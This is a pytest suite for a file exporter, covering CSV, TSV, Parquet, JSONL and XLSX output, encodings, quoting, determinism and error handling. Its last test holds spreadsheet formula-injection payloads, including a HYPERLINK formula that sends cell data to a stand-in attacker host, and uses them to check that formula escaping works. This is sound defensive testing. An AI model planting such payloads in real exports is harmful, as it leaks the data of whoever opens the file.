"""File options, written by the runner's writer from a built database."""

import csv
import hashlib
import io
import json
import shutil
import stat
import tempfile
import threading
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import duckdb
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import destinations, run_export
from exporter import excel, leftovers, writer
from exporter.engines import Engine
from exporter.errors import ExportError
from exporter.request import DELIMITERS, Column, file_options, with_output_format
from exporter.writer import write_export

NAMES = [
    Column(name, field=name) for name in ("reportId", "candidateFirstname", "candidateName", "sessionTitle")
]
TITLES = [Column(name, field=name) for name in ("reportId", "activityName")]


@pytest.fixture
def database(default_export: tuple[Path, Path], tmp_path: Path) -> Path:
    copy = tmp_path / "export.duckdb"
    shutil.copy(default_export[0], copy)
    return copy


def write(
    database: Path,
    output: Path,
    columns: list[Column] | None,
    replace: bool = False,
    zone: str = "UTC",
    **options: str,
):
    engine = Engine("duckdb", database)
    return write_export(
        engine,
        *destinations(output),
        {},
        columns,
        file_options(options),
        replace_unencodable=replace,
        zone=zone,
    )


def mart_rows(database: Path, *fields: str) -> list[tuple]:
    """The mart's typed values of `fields`, by reportId."""
    with duckdb.connect(str(database), read_only=True) as connection:
        selected = ", ".join(f'"{field}"' for field in fields)
        return connection.execute(f"select {selected} from activity_tracking order by reportId").fetchall()


def export_rows(database: Path, *fields: str) -> list[tuple]:
    with duckdb.connect(str(database), read_only=True) as connection:
        selected = ", ".join(f'"{field}"' for field in fields)
        return connection.execute(
            f"select {selected} from activity_tracking_export order by cast(reportId as bigint)"
        ).fetchall()


@pytest.mark.parametrize(
    ("encoding", "codec"),
    [("UTF-8", "utf-8"), ("ISO-8859-1", "latin-1"), ("WINDOWS-1252", "cp1252"), ("UTF-16LE", "utf-16-le")],
)
def test_every_encoding_writes_non_ascii_names(
    database: Path, tmp_path: Path, encoding: str, codec: str
) -> None:
    output = tmp_path / "names.csv"
    write(database, output, NAMES, encoding=encoding.lower())
    data = output.read_bytes()
    assert not data.startswith((b"\xef\xbb\xbf", b"\xff\xfe"))  # no byte order mark
    text = data.decode(codec)
    assert "4020;Chloé;Dupré;Sales Session\n" in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    expected = [
        [str(value) if value is not None else "" for value in row]
        for row in export_rows(database, "reportId", "candidateFirstname", "candidateName", "sessionTitle")
    ]
    assert rows == [["reportId", "candidateFirstname", "candidateName", "sessionTitle"], *expected]


@pytest.mark.parametrize(
    ("delimiter", "character"), [("comma", ","), ("pipe", "|"), ("semicolon", ";"), ("tabulation", "\t")]
)
def test_every_delimiter_quotes_what_needs_it(
    database: Path, tmp_path: Path, delimiter: str, character: str
) -> None:
    output = tmp_path / "titles.csv"
    write(database, output, TITLES, delimiter=delimiter)
    text = output.read_text(encoding="utf-8")
    # a title holding quotes, `|`, `;` and a tab is quoted whatever the delimiter, quotes doubled
    assert f'4006{character}"Lunch ""menu"" | poll;\tvote"\n' in text
    # a title holding a newline is quoted; a plain title is not
    assert f'4022{character}"Objection handling\nquiz"\n' in text
    assert f"4001{character}Welcome to our team!\n" in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=character))
    assert rows[1:] == [
        [str(report_id), title] for report_id, title in export_rows(database, "reportId", "activityName")
    ]


# what a value may hold: each delimiter, quotes, line breaks, and characters that need nothing
HOSTILE_VALUES = st.none() | st.text(
    alphabet=[*DELIMITERS.values(), '"', "\r", "\n", "'", "\\", "a", "é", " "], max_size=5
)


@settings(max_examples=300, deadline=None)
@given(
    rows=st.integers(min_value=1, max_value=4).flatmap(
        lambda width: st.lists(
            st.lists(HOSTILE_VALUES, min_size=width, max_size=width), min_size=1, max_size=6
        )
    ),
    delimiter=st.sampled_from(list(DELIMITERS.values())),
)
def test_lines_are_the_bytes_of_duckdbs_csv_writer(rows: list[list[str | None]], delimiter: str) -> None:
    """The writer renders each row as one line itself (writer.delimited_lines), and quotes the
    header's labels itself: both give the bytes DuckDB's CSV writer, which wrote the files
    before, gives the same rows."""
    width = len(rows[0])
    values = [f"c{index}" for index in range(width)]
    with duckdb.connect() as connection, tempfile.TemporaryDirectory() as folder:
        connection.execute(
            f"create table export_rows ({', '.join(f'{v} varchar' for v in values)}, row_order int)"
        )
        # inserted in the reverse of their order: the lines are sorted
        connection.executemany(
            f"insert into export_rows values ({', '.join('?' * (width + 1))})",
            [[*row, position] for position, row in reversed(list(enumerate(rows)))],
        )
        ours, duckdbs = Path(folder) / "ours.csv", Path(folder) / "duckdb.csv"
        lines = writer.delimited_lines("from export_rows", width, delimiter)
        connection.execute(f"copy ({lines}) to '{ours}' (format csv, header false, quote '')")
        connection.execute(
            f"copy (select {', '.join(values)} from export_rows order by row_order) to '{duckdbs}' "
            f"(format csv, delimiter {writer.literal(delimiter)}, header false, quote '\"', escape '\"')"
        )
        expected = duckdbs.read_bytes()
        assert ours.read_bytes() == expected
    # and the header's labels are quoted by the same rule
    quoted = (delimiter.join("" if v is None else writer._quote(v, delimiter) for v in row) for row in rows)
    assert "".join(line + "\n" for line in quoted).encode() == expected


def test_lines_end_with_lf_and_headers_can_be_left_out(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "no_header.csv"
    write(database, output, TITLES, showHeaders="no")
    data = output.read_bytes()
    assert data.startswith(b"4001;Welcome to our team!\n")
    assert b"\r" not in data


def test_tsv_uses_tabs(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "titles.tsv"
    write(database, output, TITLES, format="tsv")
    assert output.read_text(encoding="utf-8").startswith(
        "reportId\tactivityName\n4001\tWelcome to our team!\n"
    )


def test_parquet_and_jsonl_are_readable_with_their_types(database: Path, tmp_path: Path) -> None:
    columns = [
        Column(name, field=name)
        for name in ("reportId", "progression", "scoreNPS", "activityName", "sessionStartDate")
    ]
    columns.append(Column("Source", constant="LMS"))
    write(database, tmp_path / "out.parquet", columns, format="parquet")
    write(database, tmp_path / "out.jsonl", columns, format="jsonl")
    with duckdb.connect() as connection:
        types = connection.execute(
            f"select column_name, column_type from (describe select * from '{tmp_path / 'out.parquet'}')"
        ).fetchall()
        first = connection.execute(f"select * from '{tmp_path / 'out.parquet'}' limit 1").fetchone()
    assert types == [
        ("reportId", "BIGINT"),
        ("progression", "DECIMAL(5,2)"),
        ("scoreNPS", "INTEGER"),
        ("activityName", "VARCHAR"),
        ("sessionStartDate", "DATE"),
        ("Source", "VARCHAR"),
    ]
    assert str(first[1]) == "100.00" and first[0] == 4001 and first[2] == 9
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 32
    # JSON lines keep the rendered dates (the date patterns apply)
    assert json.loads(lines[0]) == {
        "reportId": 4001,
        "progression": 100.0,
        "scoreNPS": 9,
        "activityName": "Welcome to our team!",
        "sessionStartDate": "2020-02-01",
        "Source": "LMS",
    }


TYPED_FIELDS = ("reportId", "sessionStartDate", "activityLastAccessDate", "registrationDate", "timeSpent")


def read_parquet(path: Path) -> tuple[list[tuple], list[tuple]]:
    """The column types and the rows of a Parquet file, date-times as UTC instants."""
    with duckdb.connect() as connection:
        connection.execute("set TimeZone = 'UTC'")
        types = connection.execute(
            f"select column_name, column_type from (describe select * from '{path}')"
        ).fetchall()
        return types, connection.execute(f"select * from '{path}'").fetchall()


def as_instants(rows: list[tuple]) -> list[tuple]:
    """Mart rows with their UTC wall-clock timestamps as instants."""
    return [tuple(v.replace(tzinfo=UTC) if isinstance(v, datetime) else v for v in row) for row in rows]


def test_parquet_keeps_dates_instants_and_seconds_typed(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "typed.parquet"
    # the date patterns and the time zone shape text only: Parquet holds the values
    write(database, output, [Column(name, field=name) for name in TYPED_FIELDS], format="parquet")
    types, rows = read_parquet(output)
    assert types == [
        ("reportId", "BIGINT"),
        ("sessionStartDate", "DATE"),
        ("activityLastAccessDate", "TIMESTAMP WITH TIME ZONE"),
        ("registrationDate", "TIMESTAMP WITH TIME ZONE"),
        ("timeSpent", "BIGINT"),
    ]
    assert rows == as_instants(mart_rows(database, *TYPED_FIELDS))
    assert rows[0][2] == datetime(2020, 3, 30, 17, 45, tzinfo=UTC)


def test_parquet_timespent_is_seconds_whatever_its_text_format(
    default_export: tuple[Path, Path], database: Path, tmp_path: Path
) -> None:
    """timeGlobalFormat, dateFormat, dateTimeFormat and timezone change the text only."""
    arguments = ["--asOf", "2021-01-01", "--timeGlobalFormat", "padded", "--timezone", "Asia/Tokyo"]
    arguments += ["--dateFormat", "DD/MM/YYYY", "--dateTimeFormat", "DD/MM/YYYY hh:ii"]
    arguments += ["--columns", ",".join(TYPED_FIELDS), "--output", str(tmp_path / "typed.parquet")]
    result = run_export(arguments, database, tmp_path)
    assert result.returncode == 0, result.stderr
    _, rows = read_parquet(tmp_path / "typed.parquet")
    assert rows == as_instants(mart_rows(database, *TYPED_FIELDS))
    assert rows[0][4] == 5115  # rendered 001:25 in a text file


def test_same_data_gives_the_same_bytes(database: Path, tmp_path: Path) -> None:
    first, _ = write(database, tmp_path / "a.csv", None)
    second, _ = write(database, tmp_path / "b.csv", None)
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
    assert first == second
    manifest = json.loads((tmp_path / "a.csv.manifest.json").read_text())
    assert manifest["sha256"] == first.sha256 and manifest["rowCount"] == first.rows == 32


def test_an_unencodable_value_names_its_row_and_column(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "titles.csv"
    output.write_text("earlier file\n")
    with pytest.raises(
        ExportError,
        match=r"Row with reportId 4032, column 'activityName': the value 'Self check ✓' "
        r"cannot be encoded in ISO-8859-1",
    ):
        write(database, output, TITLES, encoding="ISO-8859-1")
    assert output.read_text() == "earlier file\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["export.duckdb", "titles.csv"]
    write(database, output, TITLES, replace=True, encoding="ISO-8859-1")
    assert "4032;Self check ?\n" in output.read_text(encoding="latin-1")


@pytest.mark.parametrize("file_format", ["csv", "parquet"])
def test_a_failure_while_writing_keeps_the_earlier_file(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file_format: str
) -> None:
    output = tmp_path / "out.csv"
    output.write_text("earlier file\n")
    original = writer._HashingFile.write

    def fail_midway(self, data: bytes) -> None:
        original(self, b"half a file")
        raise OSError(28, "No space left on device")

    # the disk fills up while the rows stream in: the COPY writing them stops too
    monkeypatch.setattr(writer._HashingFile, "write", fail_midway)
    with pytest.raises(ExportError, match=r"Cannot write .*out\.csv: No space left on device\."):
        write(database, output, TITLES, format=file_format)
    assert output.read_text() == "earlier file\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["export.duckdb", "out.csv"]


@pytest.mark.parametrize("options", [{}, {"encoding": "UTF-16LE", "format": "tsv"}, {"format": "parquet"}])
def test_the_file_is_written_in_one_pass(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, options: dict
) -> None:
    """No copy of the rows beside the file or in the temporary folder (the COPY streams into a
    pipe), and the manifest's SHA-256 is the file's."""
    output = tmp_path / "out"
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    seen: list[str] = []
    original = writer._HashingFile.write

    def kind(path: Path) -> str:
        return "pipe" if stat.S_ISFIFO(path.stat().st_mode) else "folder" if path.is_dir() else "file"

    def write(self, data: bytes) -> None:
        # while the rows stream in: what the COPY writes to, in the temporary folder
        seen.extend(kind(path) for path in scratch.rglob("*"))
        original(self, data)

    monkeypatch.setattr(writer._HashingFile, "write", write)
    beside: list[str] = []
    engine = Engine("duckdb", database)
    written, _ = write_export(
        engine,
        *destinations(output),
        {},
        None,
        file_options(options),
        replace_unencodable=False,
        before_replace=lambda: beside.extend(sorted(path.name for path in tmp_path.iterdir())),
    )
    run = leftovers.tag()
    assert beside == [f".out.manifest.json.partial-{run}", f".out.partial-{run}", "export.duckdb", "scratch"]
    assert "pipe" in seen and "file" not in seen
    assert written.sha256 == hashlib.sha256(output.read_bytes()).hexdigest()


def finishes(action, timeout: float = 60) -> BaseException | None:
    """Run `action` in a thread; fail when it has not ended after `timeout` seconds (it waits for
    ever) instead of hanging the test; return what it raised."""
    raised: list[BaseException] = []

    def run() -> None:
        try:
            action()
        except BaseException as error:
            raised.append(error)

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(timeout=timeout)
    assert not thread.is_alive(), "left waiting for ever"
    return raised[0] if raised else None


def test_a_copy_that_fails_before_writing_is_reported(database: Path) -> None:
    received: list[bytes] = []

    def copy() -> None:
        with duckdb.connect(str(database)) as connection:
            writer._copy(connection, "select * from nowhere", "format csv", received.append)

    error = finishes(copy)
    assert isinstance(error, duckdb.CatalogException) and "nowhere" in str(error)
    assert received == []


def test_a_reader_that_stops_early_stops_the_copy(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The reader stops (an error, Ctrl-C) while the COPY is still sorting, before it opened the
    pipe: the COPY is stopped, and nothing waits for ever."""

    class Stopped(Exception):
        pass

    def stop(*args: object) -> None:
        raise Stopped

    monkeypatch.setattr(writer, "_pass_on", stop)  # the reader's first step once the pipe is open
    slow = "select range as n from range(30000000) order by hash(range)"

    def copy() -> None:
        with duckdb.connect(str(database)) as connection:
            writer._copy(connection, slow, "format csv", lambda chunk: None)
            # the connection is usable again
            assert connection.execute("select 42").fetchone() == (42,)

    assert isinstance(finishes(copy), Stopped)


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (
            {"format": "xls"},
            "Invalid value 'xls' for file option format: expected one of csv, tsv, parquet, jsonl, xlsx.",
        ),
        ({"encoding": "UTF-32"}, "Invalid value 'UTF-32' for file option encoding"),
        ({"delimiter": "space"}, "Invalid value 'space' for file option delimiter"),
        ({"showHeaders": "maybe"}, "Invalid value 'maybe' for file option showHeaders"),
        ({"format": "tsv", "delimiter": "comma"}, "File option delimiter=comma does not go with format=tsv."),
        (
            {"format": "jsonl", "encoding": "UTF-16LE"},
            "File option encoding=UTF-16LE does not go with format=jsonl.",
        ),
        (
            {"format": "parquet", "encoding": "utf-8-bom"},
            "File option encoding=UTF-8-BOM does not go with format=parquet.",
        ),
        (
            {"format": "jsonl", "encoding": "UTF-8-BOM"},
            "File option encoding=UTF-8-BOM does not go with format=jsonl.",
        ),
        (
            {"format": "xlsx", "encoding": "UTF-8-BOM"},
            "File option encoding=UTF-8-BOM does not go with format=xlsx.",
        ),
        (
            {"format": "xlsx", "encoding": "WINDOWS-1252"},
            "File option encoding=WINDOWS-1252 does not go with format=xlsx.",
        ),
    ],
)
def test_invalid_file_options_are_named(options: dict, message: str) -> None:
    with pytest.raises(ExportError) as error:
        file_options(options)
    assert message in str(error.value)


def test_an_unknown_column_is_named(database: Path, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="Unknown column activityTitle: expected a system field"):
        write(database, tmp_path / "out.csv", [Column("x", field="activityTitle")])


def test_parquet_timespent_in_timespent_mode_is_the_time_in_the_frame(database: Path, tmp_path: Path) -> None:
    """The documented example: 50 s on 2 Jan, 300 s on 25 Feb, 50 s on 5 Apr (400 s in all);
    on 28 May, the last full month (N = 1) in timeSpent mode holds 50 s."""
    arguments = ["--asOf", "2020-05-28", "--timeFrames", "1", "--timeFramesScale", "less_than_n_full_months"]
    arguments += ["--timeFrameScaleMode", "timeSpent", "--timeGlobalFormat", "padded"]
    arguments += ["--columns", "reportId,timeSpent", "--output", "frame.parquet"]
    result = run_export(arguments, database, tmp_path)
    assert result.returncode == 0, result.stderr
    _, rows = read_parquet(tmp_path / "frame.parquet")
    assert (4023, 50) in rows
    assert mart_rows(database, "reportId", "timeSpent")[15] == (4023, 400)


BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(("file_format", "show_headers"), [("csv", "yes"), ("csv", "no"), ("tsv", "yes")])
def test_utf8_bom_starts_the_file_once(
    database: Path, tmp_path: Path, file_format: str, show_headers: str
) -> None:
    output = tmp_path / f"names.{file_format}"
    write(database, output, NAMES, format=file_format, encoding="UTF-8-BOM", showHeaders=show_headers)
    data = output.read_bytes()
    assert data.startswith(BOM) and data.count(BOM) == 1
    # the rest is the UTF-8 file, byte for byte
    plain = tmp_path / f"plain.{file_format}"
    write(database, plain, NAMES, format=file_format, showHeaders=show_headers)
    assert data[len(BOM) :] == plain.read_bytes()
    separator = "\t" if file_format == "tsv" else ";"
    assert f"4020{separator}Chloé{separator}Dupré".encode() in data
    first = data[len(BOM) :].split(b"\n", 1)[0]
    assert first.startswith(b"reportId" if show_headers == "yes" else b"4001")


@pytest.mark.parametrize(
    ("options", "output", "expected"),
    [
        ({}, "out.parquet", "parquet"),
        ({}, "OUT.XLSX", "xlsx"),
        ({}, "out.Tsv", "tsv"),
        ({}, "out.jsonl", "jsonl"),
        ({"delimiter": "comma"}, "out.csv", "csv"),
        ({}, "out.txt", "csv"),  # an unknown extension: the default
        ({}, "out", "csv"),
        ({"format": "parquet"}, "out.data", "parquet"),
        ({"format": " XLSX "}, "out.xlsx", "xlsx"),
    ],
)
def test_the_format_comes_from_the_output_extension(options: dict, output: str, expected: str) -> None:
    assert file_options(with_output_format(options, Path(output))).format == expected


@pytest.mark.parametrize(
    ("given", "output"), [("csv", "out.parquet"), ("tsv", "out.csv"), ("xlsx", "a.jsonl")]
)
def test_an_extension_contradicting_the_format_is_refused(given: str, output: str) -> None:
    named = output.rsplit(".", 1)[1]
    with pytest.raises(ExportError) as error:
        with_output_format({"format": given}, Path(output))
    assert str(error.value).startswith(
        f"--output {output} names a {named} file but file option format is {given} "
    )


def test_the_output_extension_is_checked_before_the_build(tmp_path: Path) -> None:
    database = tmp_path / "never-built.duckdb"
    result = run_export(["--format", "csv", "--output", "out.parquet"], database, tmp_path)
    assert result.returncode == 2
    assert result.stderr.startswith("error: --output out.parquet names a parquet file but file option format")
    assert "Traceback" not in result.stderr and len(result.stderr.splitlines()) == 1
    # nothing was built or written
    assert sorted(path.name for path in tmp_path.iterdir()) == []


def test_an_output_named_parquet_is_parquet(database: Path, tmp_path: Path) -> None:
    result = run_export(["--asOf", "2021-01-01", "--output", "out.Parquet"], database, tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out.Parquet").read_bytes()[:4] == b"PAR1"
    manifest = json.loads((tmp_path / "out.Parquet.manifest.json").read_text())
    assert manifest["fileOptions"]["format"] == "parquet"


XLSX_FIELDS = (
    "reportId",
    "score",
    "activityName",
    "sessionStartDate",
    "activityLastAccessDate",
    "timeSpent",
)


def read_xlsx(path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    workbook = openpyxl.load_workbook(path)
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


def test_xlsx_holds_typed_values_in_the_export_time_zone(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.xlsx"
    columns = [Column(name, field=name) for name in XLSX_FIELDS]
    columns.append(Column("Formula", constant="=1+1"))
    written, _ = write(database, output, columns, zone="Europe/Paris", format="xlsx")
    sheet = read_xlsx(output)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (*XLSX_FIELDS, "Formula")
    paris = ZoneInfo("Europe/Paris")
    expected = []
    for report_id, score, name, start, last_access, seconds in mart_rows(database, *XLSX_FIELDS):
        local = (
            last_access.replace(tzinfo=UTC).astimezone(paris).replace(tzinfo=None) if last_access else None
        )
        day = datetime.combine(start, datetime.min.time()) if start else None
        number = float(score) if score is not None else None
        expected.append((report_id, number, name, day, local, seconds, "=1+1"))
    assert rows[1:] == expected
    assert rows[1][4] == datetime(2020, 3, 30, 19, 45)  # 17:45 UTC, summer time in Paris
    kinds = {
        (type(cell.value).__name__, cell.number_format)
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if cell.value is not None
    }
    assert kinds == {
        ("int", "General"),
        ("float", "General"),  # a score of 12.50; 35.00 reads back as the int 35
        ("str", "General"),
        ("datetime", "yyyy-mm-dd"),
        ("datetime", "yyyy-mm-dd hh:mm:ss"),
    }
    assert all(isinstance(row[0], int) and isinstance(row[5], int | None) for row in rows[1:])
    assert written.rows == 32 and written.sha256 == hashlib.sha256(output.read_bytes()).hexdigest()


def test_the_runner_writes_xlsx_in_the_export_time_zone_whatever_the_decimal(
    database: Path, tmp_path: Path
) -> None:
    """The runner hands the timezone parameter to the xlsx writer; the decimal separator is
    for text files (an xlsx number has none)."""
    arguments = ["--asOf", "2021-01-01", "--timezone", " America/New_York ", "--decimal", "comma"]
    arguments += ["--columns", "reportId,score,activityLastAccessDate", "--output", "out.xlsx"]
    result = run_export(arguments, database, tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(read_xlsx(tmp_path / "out.xlsx").iter_rows(min_row=2, values_only=True))
    new_york = ZoneInfo("America/New_York")
    assert rows == [
        (
            report_id,
            float(score) if score is not None else None,
            last.replace(tzinfo=UTC).astimezone(new_york).replace(tzinfo=None) if last else None,
        )
        for report_id, score, last in mart_rows(database, "reportId", "score", "activityLastAccessDate")
    ]
    assert rows[0] == (4001, 35, datetime(2020, 3, 30, 13, 45))


def test_xlsx_header_is_frozen_filtered_and_columns_fit(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.xlsx"
    write(database, output, None, format="xlsx")
    sheet = read_xlsx(output)
    assert sheet.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(sheet.max_column)
    assert sheet.auto_filter.ref == f"A1:{last}33"
    assert sheet.max_row == 33
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    # at least the header's length, at most the cap; a long value widens its column
    assert all(len(header) <= width <= excel.MAX_WIDTH + 1 for header, width in widths.items())
    assert widths["activityName"] > len("activityName") + 3
    assert widths["likes"] < 10


def test_xlsx_without_headers_starts_with_the_rows(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.xlsx"
    write(database, output, TITLES, format="xlsx", showHeaders="no")
    sheet = read_xlsx(output)
    assert next(sheet.iter_rows(values_only=True)) == (4001, "Welcome to our team!")
    assert sheet.max_row == 32 and sheet.freeze_panes is None


def test_excel_sheet_size(database: Path) -> None:
    assert excel.MAX_ROWS == 2**20


@pytest.mark.parametrize(
    ("limit", "show_headers", "fits"),
    [(33, "yes", True), (32, "yes", False), (32, "no", True), (31, "no", False)],
)
def test_xlsx_refuses_more_rows_than_a_sheet_holds(
    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: int, show_headers: str, fits: bool
) -> None:
    """32 rows: with the header they need 33 sheet rows."""
    monkeypatch.setattr(excel, "MAX_ROWS", limit)
    output = tmp_path / "out.xlsx"
    output.write_text("earlier file\n")
    if fits:
        write(database, output, TITLES, format="xlsx", showHeaders=show_headers)
        assert read_xlsx(output).max_row == limit
        return
    with pytest.raises(ExportError) as error:
        write(database, output, TITLES, format="xlsx", showHeaders=show_headers)
    assert str(error.value).startswith(f"The export has 32 rows: an xlsx sheet holds {limit} rows")
    assert "format=xlsx" in str(error.value)
    assert output.read_text() == "earlier file\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["export.duckdb", "out.xlsx"]


def test_xlsx_refuses_a_value_longer_than_a_cell_holds(database: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.xlsx"
    columns = [*TITLES, Column("Long", constant="x" * (excel.MAX_TEXT + 1))]
    with pytest.raises(
        ExportError, match=r"^Sheet row 2, column 3: a value longer than the 32,767 characters"
    ):
        write(database, output, columns, format="xlsx")
    assert not output.exists()
    write(database, output, [*TITLES, Column("Long", constant="x" * excel.MAX_TEXT)], format="xlsx")
    assert read_xlsx(output)["C2"].value == "x" * 32_767


def test_xlsx_gives_the_same_bytes_for_the_same_rows(database: Path, tmp_path: Path) -> None:
    write(database, tmp_path / "a.xlsx", None, format="xlsx")
    write(database, tmp_path / "b.xlsx", None, format="xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    # the creation date is fixed, not the time of writing
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").properties.created == datetime(1980, 1, 1)


# A learner's name as an attacker would type it, for each start spreadsheets read as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_escape_formulas_makes_every_formula_start_text_and_nothing_else(
    database: Path, tmp_path: Path
) -> None:
    ids = [row[0] for row in mart_rows(database, "reportId")][: len(FORMULAS) + 1]
    with duckdb.connect(str(database)) as connection:
        for report_id, text in zip(ids, FORMULAS, strict=False):
            connection.execute(
                "update activity_tracking set candidateName = ? where reportId = ?", [text, report_id]
            )
        # a negative number is a number, and '=' inside a text is no formula
        connection.execute(
            "update activity_tracking set score = -3, candidateName = 'a=b' where reportId = ?", [ids[-1]]
        )
    columns = [
        Column("reportId", field="reportId"),
        Column("candidateName", field="candidateName"),
        Column("score", field="score"),
        Column("=cmd", constant="@risky"),
    ]
    engine = Engine("duckdb", database)
    files = {}
    for escaped in (False, True):
        output = tmp_path / f"escaped-{escaped}.csv"
        write_export(
            engine,
            *destinations(output),
            {},
            columns,
            file_options({}),
            replace_unencodable=False,
            escape_formulas=escaped,
        )
        with output.open(encoding="utf-8", newline="") as written:
            files[escaped] = list(csv.reader(written, delimiter=";"))
    plain, escaped_rows = files[False], files[True]
    assert escaped_rows[0] == ["reportId", "candidateName", "score", "'=cmd"]
    names = {int(row[0]): row[1] for row in plain[1:]}
    for row, original in zip(escaped_rows[1:], plain[1:], strict=True):
        name = names[int(row[0])]
        starts_as_formula = name[:1] in ("=", "+", "-", "@", "\t", "\r")
        assert row[1] == ("'" + name if starts_as_formula else name)
        assert row[2] == original[2]  # numbers stay as they are: -3.00
        assert row[3] == "'@risky"
    assert {names[report_id] for report_id in ids} == {*FORMULAS, "a=b"}
    assert [row[2] for row in escaped_rows[1:] if int(row[0]) == ids[-1]] == ["-3.00"]
